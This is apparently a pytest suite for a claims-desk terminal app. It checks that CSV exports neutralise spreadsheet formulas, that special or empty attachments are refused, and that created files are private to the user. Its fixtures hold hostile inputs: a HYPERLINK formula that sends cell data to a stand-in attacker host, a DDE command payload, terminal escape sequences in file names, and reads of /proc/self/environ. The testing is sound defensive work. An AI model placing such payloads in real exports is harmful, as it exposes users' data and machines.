"""Hostile files at the desk's doors (issue 14, points 3-5): spreadsheet formulas in every CSV
safet writes, odd files offered as attachments, and the modes of every file safet creates."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import sqlite3
import stat
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from safet_tui import attachments as store
from safet_tui import db as m
from safet_tui import transactions
from safet_tui.attachments import AttachmentError
from safet_tui.domain.money import Money
from safet_tui.service.desk import Desk, Evidenced, ServiceError

NOW = datetime(2026, 11, 23, 12, 0, 0, tzinfo=UTC)
DAY = timedelta(days=1)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def usd(text: str) -> Money:
    return Money.of(text, "USD")


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def umask_022():
    """The common umask, under which a plain open() makes files world-readable."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture
def hostile(empty_desk, clock):
    """Claims whose text is made to be run by a spreadsheet: SKUs, titles and denial reasons."""
    desk = empty_desk
    account = m.Account.create(name="@Acme", marketplace="amazon.com", currency="USD")
    clock.advance(days=-10)
    texts = [("-0012", HYPERLINK, "-12"), ("+SKU", "\t=1+2", "@SUM(A1:A9)"), ("SKU-3", "\r=cmd|' /C calc'!A0",
                                                                               HYPERLINK)]
    for i, (sku, title, reason) in enumerate(texts, start=1):
        now = clock.now()
        desk.file_claim(account_id=account.id, order_id=f"111-000000{i}-0000001", order_item_id="1",
                        reason_code="abuse", amount=usd("49.99"), description=f"claim {i}", refund_at=now - DAY,
                        delivered_at=now - DAY, sku=sku, title=title, claim_no=f"10000{i}")
        desk.as_role("amazon").no_grant(f"10000{i}", reason)
    clock.advance(days=10)
    return desk


def assert_formula_safe(table: list[list[str]], numeric_columns: set[str]) -> None:
    """No cell starts like a formula, except a number the writer produced, in a number column."""
    header = table[0]
    assert len(table) > 1
    for row in table:
        for column, cell in zip(header, row, strict=True):
            if cell.startswith(FORMULA_START):
                assert column in numeric_columns and PLAIN_NUMBER.fullmatch(cell), (column, cell)


def read_csv_file(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "CSV files carry a byte-order mark, so spreadsheets read UTF-8"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


# -- 3. one CSV writer, formula-safe everywhere ----------------------------------------------------

def test_safet_report_csv_neutralises_denial_reasons_and_product_names(hostile, capsys):
    from safet_tui.cli.main import main

    db = str(hostile.target.path)
    assert main(["report", "--db", db, "--format", "csv", "--period", "all", "--user", "t"]) == 0
    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert_formula_safe(table, {"value"})
    labels = {row[2] for row in table}
    assert "'-12" in labels and "'@SUM(A1:A9)" in labels and "'" + HYPERLINK in labels
    assert "'-0012 " + HYPERLINK in labels


def test_the_analytics_screens_export_neutralises_text_and_keeps_numbers(hostile, tmp_path):
    figures = hostile.analytics("all")
    csv_path, json_path = tmp_path / "out" / "a.csv", tmp_path / "out" / "a.json"
    hostile.export_analytics(figures, csv_path, json_path)
    table = read_csv_file(csv_path)
    assert_formula_safe(table, {"value"})
    assert ["denial_reasons", "2", "'" + HYPERLINK, "", "count", "1"] in table
    assert ["money", "", "", "USD", "claimed", "149.97"] in table


def test_claims_exports_neutralise_every_text_cell(hostile, tmp_path, capsys):
    from safet_tui.cli.main import main
    from safet_tui.export.claims import CSV_COLUMNS

    numbers = {"claimed", "reimbursed", "paid"}
    out = tmp_path / "desk.csv"
    assert hostile.export_claims(str(out)) == 3  # the desk's `e`
    tables = [read_csv_file(out)]
    db = str(hostile.target.path)
    assert main(["export", "--db", db, "--user", "t", "-o", str(tmp_path / "cli.csv")]) == 0
    tables.append(read_csv_file(tmp_path / "cli.csv"))
    capsys.readouterr()
    assert main(["export", "--db", db, "--user", "t"]) == 0
    tables.append(list(csv.reader(io.StringIO(capsys.readouterr().out))))
    for table in tables:
        assert tuple(table[0]) == CSV_COLUMNS
        assert_formula_safe(table, numbers)
        by_no = {r[0]: dict(zip(CSV_COLUMNS, r, strict=True)) for r in table[1:]}
        # text that looks like a number is text: a SKU keeps its sign and zeros in a spreadsheet
        assert by_no["100001"]["sku"] == "'-0012" and by_no["100001"]["denial_reason"] == "'-12"
        assert by_no["100002"]["title"] == "'\t=1+2" and by_no["100003"]["title"].startswith("'\r=")
        assert by_no["100002"]["account"] == "'@Acme" and by_no["100001"]["claimed"] == "49.99"


def test_numbers_the_writer_produced_stay_numbers_even_negative():
    from decimal import Decimal

    from safet_tui.export.csv_cells import csv_text, neutralise

    assert neutralise(Decimal("-12.50")) == "-12.50" and neutralise(-3) == "-3" and neutralise(1e-06) == "0.000001"
    assert neutralise("-12.50") == "'-12.50"  # the same text from a report is neutralised
    assert neutralise(Decimal("-Infinity")) == "'-Infinity" and neutralise(float("nan")) == "nan"
    assert neutralise(True) == "yes" and neutralise(None) == ""
    assert list(csv.reader(io.StringIO(csv_text(["=h", "n"], [["+1", Decimal("-1.5")]])))) == [
        ["'=h", "n"], ["'+1", "-1.5"]]


def test_every_csv_in_the_code_goes_through_the_one_writer():
    """No second CSV writer: csv.writer / DictWriter appear only in export/csv_cells.py."""
    root = Path(__file__).resolve().parent.parent / "safet_tui"
    writers = [str(p.relative_to(root)) for p in root.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\b", p.read_text(encoding="utf-8"))]
    assert writers == ["export/csv_cells.py"]


# -- 4. attachments: only regular files with something in them, nothing left behind ----------------

@pytest.fixture
def claim(empty_desk):
    desk = empty_desk
    account = m.Account.create(name="Acme Home", marketplace="amazon.com", currency="USD")
    desk.file_claim(account_id=account.id, order_id="111-1234567-1234567", order_item_id="1", reason_code="abuse",
                    amount=usd("49.99"), description="Buyer returned an empty box.", refund_at=NOW - 5 * DAY,
                    delivered_at=NOW - 4 * DAY, claim_no="3400000001")
    return desk, account.id, "3400000001"


def store_contents(desk: Desk) -> list[str]:
    """Everything in the attachment store, temporary files too."""
    root = desk.attachments_dir
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if not p.is_dir()) if root.exists() else []


def attachment_rows(desk: Desk) -> list[tuple]:
    return transactions.DB.obj.execute_sql("SELECT name, size, sha256 FROM attachment ORDER BY id").fetchall()


@pytest.mark.parametrize(("path", "reason"), [
    ("/proc/self/pagemap", "is empty (it reports 0 bytes)"),  # reads as gigabytes; reported size 0
    ("/proc/self/environ", "is empty (it reports 0 bytes)"),  # secrets; reported size 0
])
def test_special_files_are_refused_and_leave_nothing_in_the_store(claim, path, reason):
    desk, _account, no = claim
    if not os.path.exists(path):
        pytest.skip(f"{path} does not exist here")
    before = store_contents(desk)
    for _ in range(2):  # again and again: the disk must not fill
        with pytest.raises(AttachmentError, match=re.escape(reason)):
            desk.attach(no, path)
        with pytest.raises(AttachmentError, match=re.escape(reason)):
            desk.check_attachment(path)  # the dialog's check says the same before anything is sent
    assert store_contents(desk) == before and attachment_rows(desk) == []


def test_an_empty_file_is_refused_with_a_reason(claim, tmp_path):
    desk, _account, no = claim
    empty = tmp_path / "photo.jpg"
    empty.write_bytes(b"")
    for act in (lambda: desk.check_attachment(str(empty)), lambda: desk.attach(no, str(empty)),
                lambda: desk.reply(no, "see attached", [str(empty)])):
        with pytest.raises(AttachmentError) as refused:
            act()
        assert "photo.jpg: is empty (it reports 0 bytes), so it proves nothing" in str(refused.value)
        assert "\n" not in str(refused.value)
    assert store_contents(desk) == [] and attachment_rows(desk) == []


def test_a_pipe_is_refused_at_once_not_waited_on(claim, tmp_path):
    desk, _account, no = claim
    fifo = tmp_path / "pipe.pdf"
    os.mkfifo(fifo)
    with pytest.raises(AttachmentError, match="not a regular file"):
        desk.attach(no, str(fifo))
    assert store_contents(desk) == []


def test_a_file_that_reads_less_than_it_claims_is_refused(claim):
    desk, _account, no = claim
    path = "/sys/kernel/mm/transparent_hugepage/enabled"  # sysfs says 4096 bytes and reads fewer
    if not os.path.exists(path):
        pytest.skip(f"{path} does not exist here")
    with pytest.raises(AttachmentError, match="shrank while it was read"):
        desk.attach(no, path)
    assert store_contents(desk) == []


def test_a_name_that_is_not_utf8_is_stored_clean(claim, tmp_path):
    desk, _account, no = claim
    raw = os.fsencode(str(tmp_path)) + b"/caf\xe9 \x1b]0;pwned\x07 \xe2\x80\xaeinvoice.pdf"
    with open(raw, "wb") as fh:
        fh.write(b"%PDF-1.4 evidence")
    att = desk.attach(no, os.fsdecode(raw))
    assert att.name == "caf\ufffd ]0;pwned invoice.pdf" and att.media_type == "application/pdf"
    (row,) = attachment_rows(desk)
    assert row[0] == att.name and row[1] == 17
    assert store_contents(desk) == [f"{att.sha256[:2]}/{att.sha256}"]  # no temporary file left


async def test_the_attach_dialog_never_completes_a_name_that_would_reach_the_terminal_raw(tmp_path):
    """Tab completion put ``ESC ] 0 ; … BEL`` from a file name into the input, which draws its value
    raw: the terminal's title changed. Such names (and undecodable ones) are not offered."""
    from safet_tui.screens.dialogs import PathSuggester

    with open(os.fsencode(str(tmp_path)) + b"/caf\xe9.pdf", "wb") as fh:
        fh.write(b"x")
    (tmp_path / "cab\x1b]0;pwned\x07.pdf").write_bytes(b"x")
    suggester = PathSuggester()
    assert await suggester.get_suggestion(f"{tmp_path}/ca") is None
    (tmp_path / "cake.pdf").write_bytes(b"x")
    assert await suggester.get_suggestion(f"{tmp_path}/ca") == f"{tmp_path}/cake.pdf"


async def test_the_desks_attach_dialog_refuses_special_and_empty_files_and_stores_nothing(demo_db, clock, tmp_path):
    from desk_support import make_app, settle, text, wait_for, wait_for_screen
    from textual.widgets import Input

    from safet_tui.screens.dialogs import AttachDialog

    empty = tmp_path / "empty.jpg"
    empty.write_bytes(b"")
    app = make_app(demo_db, clock)
    async with app.run_test(size=(120, 35)) as pilot:
        await settle(pilot)
        before = store_contents(app.desk)
        await pilot.press("t")
        dialog = await wait_for_screen(pilot, AttachDialog)
        box = dialog.query_one(Input)
        for path in ("/proc/self/environ", str(empty)):
            box.value = path
            await pilot.press("enter")
            await wait_for(pilot, lambda p=path: f"{p}: is empty" in text(dialog.query_one("#error")))
        assert app.screen is dialog and store_contents(app.desk) == before
        await pilot.press("escape")


@pytest.mark.parametrize(("raw", "name"), [
    ("..", "attachment"), ("   ", "attachment"), ("a\\..\\b.pdf", "a_.._b.pdf"), ("x\u200by\u2060z.png", "xyz.png"),
    ("line\nbreak\ttab.txt", "line break tab.txt"), (b"\xff\xfe.jpg", "\ufffd\ufffd.jpg"),
])
def test_safe_names(raw, name):
    assert store.safe_name(raw) == name


def test_a_long_name_is_cut_keeping_its_extension():
    name = store.safe_name("x" * 5000 + ".pdf")
    assert len(name) == store.MAX_NAME and name.endswith("….pdf")


def test_a_refused_write_leaves_no_file_in_the_store(claim, tmp_path):
    """The file is copied in before the transaction and put in place only once the row commits:
    a busy database or a claim the rules refuse leaves the store as it was."""
    desk, account, no = claim
    photo = tmp_path / "label.jpg"
    photo.write_bytes(b"\xff\xd8\xff label photo")
    before_rows, before_files = attachment_rows(desk), store_contents(desk)
    desk.lock_wait = 0.05
    other = sqlite3.connect(str(desk.target.path), timeout=0)
    other.execute("BEGIN IMMEDIATE")  # another program holds the write lock
    try:
        with pytest.raises(ServiceError, match="busy|locked|another"):
            desk.attach(no, str(photo))
        with pytest.raises(ServiceError):
            desk.reply(no, "see the photo", [str(photo)])
    finally:
        other.rollback()
        other.close()
    with pytest.raises(ServiceError, match="cannot file"):  # refused by the filing rules, inside the write
        desk.file_claim(account_id=account, order_id="111-7654321-7654321", order_item_id="1", reason_code="abuse",
                        amount=usd("49.99"), description="Empty box.", refund_at=NOW - 400 * DAY,
                        delivered_at=NOW - 399 * DAY, files=[Evidenced(str(photo))])
    assert attachment_rows(desk) == before_rows and store_contents(desk) == before_files
    att = desk.attach(no, str(photo))  # and when the write goes through, the file is there
    assert desk.attachment_path(att.sha256).read_bytes() == photo.read_bytes()


# -- 5. files for the user only --------------------------------------------------------------------

def test_a_new_database_its_wal_and_shm_are_for_the_user_only(tmp_path, umask_022, clock):
    db = tmp_path / "new" / "desk.db"
    desk = Desk(str(db), clock=clock, user="t")
    try:
        m.Account.create(name="A", marketplace="amazon.com", currency="USD")  # something in the WAL
        for suffix in ("", "-wal", "-shm"):
            assert mode(db.with_name(db.name + suffix)) == 0o600, suffix
        assert mode(db.parent) == 0o700
    finally:
        desk.close()


def test_an_existing_database_keeps_the_mode_its_owner_gave_it(tmp_path, umask_022, clock):
    db = tmp_path / "shared.db"
    Desk(str(db), clock=clock, user="t").close()
    db.chmod(0o640)  # shared with a group on purpose
    desk = Desk(str(db), clock=clock, user="t")
    try:
        m.Account.create(name="A", marketplace="amazon.com", currency="USD")
        assert mode(db) == 0o640 and mode(db.with_name(db.name + "-wal")) == 0o640
    finally:
        desk.close()


def test_the_attachment_store_is_for_the_user_only(claim, tmp_path, umask_022):
    desk, _account, no = claim
    photo = tmp_path / "label.jpg"
    photo.write_bytes(b"\xff\xd8\xff label photo")
    att = desk.attach(no, str(photo))
    stored = desk.attachment_path(att.sha256)
    assert (mode(desk.attachments_dir), mode(stored.parent), mode(stored)) == (0o700, 0o700, 0o600)


def test_export_files_are_for_the_user_only(hostile, tmp_path, umask_022, capsys):
    from safet_tui.cli.main import main

    old = tmp_path / "old.csv"
    old.write_text("stale")
    old.chmod(0o644)
    hostile.export_claims(str(old))  # replaced, not written through with its old mode
    hostile.export_claims(str(tmp_path / "claims.json"), fmt="json")
    hostile.export_analytics(hostile.analytics("all"), tmp_path / "f" / "a.csv", tmp_path / "f" / "a.json")
    assert main(["export", "--db", str(hostile.target.path), "--user", "t", "-o", str(tmp_path / "cli.csv")]) == 0
    for name in ("old.csv", "claims.json", "f/a.csv", "f/a.json", "cli.csv"):
        assert mode(tmp_path / name) == 0o600, name
    assert mode(tmp_path / "f") == 0o700
    assert not [p for p in tmp_path.rglob(".*")], "no temporary file left beside the exports"


def test_a_demo_database_and_its_files_are_for_the_user_only(tmp_path, umask_022):
    from safet_tui.demo.generate import generate

    db = tmp_path / "demo.db"
    generate(str(db), claims=5, seed=1, now=NOW)
    assert mode(db) == 0o600
    files = [p for p in db.with_name("demo.db.attachments").rglob("*")]
    assert files and all(mode(p) == (0o700 if p.is_dir() else 0o600) for p in files)


DROP = "-dac_override,-dac_read_search,-fowner"


def test_a_database_that_cannot_be_created_is_refused_in_one_line(tmp_path):
    """As a user (setpriv drops root's override of file modes): a new database in a folder that
    cannot be written is refused in one line, not a traceback."""
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("setpriv (util-linux) is missing: cannot drop root's override of file modes")
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        cli = subprocess.run([setpriv, f"--inh-caps={DROP}", f"--bounding-set={DROP}", sys.executable, "-m",
                              "safet_tui.cli.main", "--db", str(folder / "x.db"), "--create", "report"],
                             capture_output=True, text=True, timeout=60)
    finally:
        folder.chmod(0o755)
    assert cli.returncode == 1, cli.stderr
    (line,) = cli.stderr.strip().splitlines()
    assert line == f"safet: error: cannot create {folder / 'x.db'}: Permission denied"
